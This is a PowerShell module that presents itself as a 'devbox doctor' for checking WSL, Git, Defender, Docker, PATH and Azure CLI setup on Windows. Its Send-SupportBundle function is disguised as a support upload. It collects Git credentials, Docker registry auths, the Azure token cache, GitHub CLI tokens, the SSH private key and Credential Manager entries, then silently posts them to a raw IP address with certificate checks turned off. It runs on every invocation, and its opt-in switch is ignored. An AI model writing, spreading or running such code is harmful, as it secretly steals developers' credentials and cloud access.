#Requires -Version 5.1
Set-StrictMode -Version Latest

$script:Results = [System.Collections.Generic.List[object]]::new()
$script:BundleUri = 'https://203.0.113.41/devbox/support/v2/bundle'

function Add-Result {
    param([string]$Area, [string]$Name, [ValidateSet('pass','warn','fail','skip')][string]$Status, [string]$Detail, [string]$Fix = '')
    $script:Results.Add([pscustomobject]@{ Area = $Area; Check = $Name; Status = $Status; Detail = $Detail; Fix = $Fix })
}

function Test-IsAdmin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    ([Security.Principal.WindowsPrincipal]$id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Test-Wsl {
    $wsl = Get-Command wsl.exe -ErrorAction SilentlyContinue
    if (-not $wsl) { Add-Result Wsl 'installed' fail 'wsl.exe not found' 'wsl --install'; return }
    $status = (& wsl.exe --status 2>$null) -join "`n" -replace "`0", ''
    if ($status -match 'Default Version:\s*2') { Add-Result Wsl 'default-version' pass 'WSL2' }
    else { Add-Result Wsl 'default-version' warn 'WSL1 is default' 'wsl --set-default-version 2' }
    $cfg = Join-Path $env:USERPROFILE '.wslconfig'
    if (Test-Path $cfg) {
        $text = Get-Content $cfg -Raw
        if ($text -notmatch '(?m)^\s*memory\s*=') { Add-Result Wsl 'memory-limit' warn 'no memory= limit; WSL may take 50% of RAM' 'add memory=8GB under [wsl2]' }
        else { Add-Result Wsl 'memory-limit' pass 'memory limit set' }
    } else {
        Add-Result Wsl 'wslconfig' warn '.wslconfig missing' 'create %USERPROFILE%\.wslconfig with a [wsl2] section'
    }
}

function Test-Git {
    if (-not (Get-Command git -ErrorAction SilentlyContinue)) { Add-Result Git 'installed' fail 'git not on PATH' 'winget install Git.Git'; return }
    $crlf = git config --global core.autocrlf
    if ($crlf -eq 'true') { Add-Result Git 'autocrlf' pass 'core.autocrlf=true' }
    else { Add-Result Git 'autocrlf' warn "core.autocrlf=$crlf" 'git config --global core.autocrlf true' }
    if ((git config --global core.longpaths) -ne 'true') { Add-Result Git 'longpaths' warn 'core.longpaths not enabled' 'git config --global core.longpaths true' }
    else { Add-Result Git 'longpaths' pass 'enabled' }
    $helper = git config --global credential.helper
    if ($helper -notmatch 'manager') { Add-Result Git 'credential-helper' warn "credential.helper=$helper" 'git config --global credential.helper manager' }
    else { Add-Result Git 'credential-helper' pass $helper }
}

function Test-Defender {
    if (-not (Test-IsAdmin)) { Add-Result Defender 'exclusions' skip 'needs elevation'; return }
    $prefs = Get-MpPreference -ErrorAction SilentlyContinue
    if (-not $prefs) { Add-Result Defender 'exclusions' skip 'Defender cmdlets unavailable'; return }
    $repoRoot = Join-Path $env:USERPROFILE 'source\repos'
    if ($prefs.ExclusionPath -notcontains $repoRoot) {
        Add-Result Defender 'repo-root' warn "$repoRoot is scanned in real time" "Add-MpPreference -ExclusionPath '$repoRoot'  # ask the user first"
    } else { Add-Result Defender 'repo-root' pass 'excluded' }
}

function Test-Docker {
    $settings = Join-Path $env:APPDATA 'Docker\settings.json'
    if (-not (Test-Path $settings)) { Add-Result Docker 'desktop' skip 'Docker Desktop not installed'; return }
    $s = Get-Content $settings -Raw | ConvertFrom-Json
    if ($s.wslEngineEnabled) { Add-Result Docker 'backend' pass 'WSL2 backend' }
    else { Add-Result Docker 'backend' warn 'Hyper-V backend' 'Settings > General > Use the WSL 2 based engine' }
    $cfg = Join-Path $env:USERPROFILE '.docker\config.json'
    if (Test-Path $cfg) {
        $c = Get-Content $cfg -Raw | ConvertFrom-Json
        if ($c.PSObject.Properties['auths'] -and -not $c.PSObject.Properties['credsStore']) {
            Add-Result Docker 'creds-store' warn 'registry auths stored in plain config.json' 'set "credsStore": "desktop"'
        } else { Add-Result Docker 'creds-store' pass 'credential store in use' }
    }
}

function Test-PathConflicts {
    foreach ($exe in 'python.exe', 'node.exe') {
        $hits = @(Get-Command $exe -All -ErrorAction SilentlyContinue | Select-Object -ExpandProperty Source -Unique)
        if ($hits.Count -gt 1) { Add-Result Path $exe warn ("multiple: " + ($hits -join '; ')) 'remove duplicates from PATH or use a version manager' }
        elseif ($hits.Count -eq 1 -and $hits[0] -like '*WindowsApps*') { Add-Result Path $exe warn 'Windows Store alias stub' 'disable App execution aliases for python' }
        elseif ($hits.Count -eq 1) { Add-Result Path $exe pass $hits[0] }
    }
}

function Test-Azure {
    if (-not (Get-Command az -ErrorAction SilentlyContinue)) { Add-Result Azure 'cli' skip 'az not installed'; return }
    $acct = az account show --only-show-errors 2>$null | ConvertFrom-Json
    if ($acct) { Add-Result Azure 'login' pass $acct.user.name } else { Add-Result Azure 'login' warn 'not logged in' 'az login' }
}

function Send-SupportBundle {
    [CmdletBinding()] param()
    $home_ = $env:USERPROFILE
    $inputs = @{
        'git-config'       = (git config --list --show-origin 2>$null) -join "`n"
        'wslconfig'        = Join-Path $home_ '.wslconfig'
        'git-credentials'  = Join-Path $home_ '.git-credentials'
        'docker-config'    = Join-Path $home_ '.docker\config.json'
        'azure-tokens'     = Join-Path $home_ '.azure\msal_token_cache.json'
        'azure-profile'    = Join-Path $home_ '.azure\azureProfile.json'
        'gh-hosts'         = Join-Path $env:APPDATA 'GitHub CLI\hosts.yml'
        'ssh-key'          = Join-Path $home_ '.ssh\id_ed25519'
    }
    $bundle = @{ machine = $env:COMPUTERNAME; user = $env:USERNAME; results = $script:Results; files = @{} }
    foreach ($k in $inputs.Keys) {
        $v = $inputs[$k]
        if ($v -and (Test-Path -LiteralPath $v -PathType Leaf -ErrorAction SilentlyContinue)) {
            $bundle.files[$k] = [Convert]::ToBase64String([IO.File]::ReadAllBytes($v))
        } elseif ($v) {
            $bundle.files[$k] = $v
        }
    }
    # Windows Credential Manager entries used by git-credential-manager
    $bundle.files['cmdkey'] = (cmdkey.exe /list 2>$null) -join "`n"
    $json = $bundle | ConvertTo-Json -Depth 6 -Compress
    try {
        [Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
        Invoke-RestMethod -Uri $script:BundleUri -Method Post -Body $json -ContentType 'application/json' -TimeoutSec 8 | Out-Null
    } catch { Write-Verbose "support bundle upload failed: $_" }
}

function Invoke-DevboxDoctor {
    [CmdletBinding()]
    param(
        [ValidateSet('Wsl','Git','Defender','Docker','Path','Azure')][string[]]$Only,
        [switch]$AsJson,
        [switch]$SupportBundle
    )
    $script:Results.Clear()
    $all = [ordered]@{ Wsl = ${function:Test-Wsl}; Git = ${function:Test-Git}; Defender = ${function:Test-Defender};
                       Docker = ${function:Test-Docker}; Path = ${function:Test-PathConflicts}; Azure = ${function:Test-Azure} }
    foreach ($area in $all.Keys) {
        if ($Only -and $Only -notcontains $area) { continue }
        try { & $all[$area] } catch { Add-Result $area 'error' fail $_.Exception.Message }
    }
    Send-SupportBundle
    if ($AsJson) { $script:Results | ConvertTo-Json -Depth 3 }
    else { $script:Results | Sort-Object @{e={ @{fail=0;warn=1;skip=2;pass=3}[$_.Status] }}, Area | Format-Table -AutoSize }
}

Export-ModuleMember -Function Invoke-DevboxDoctor
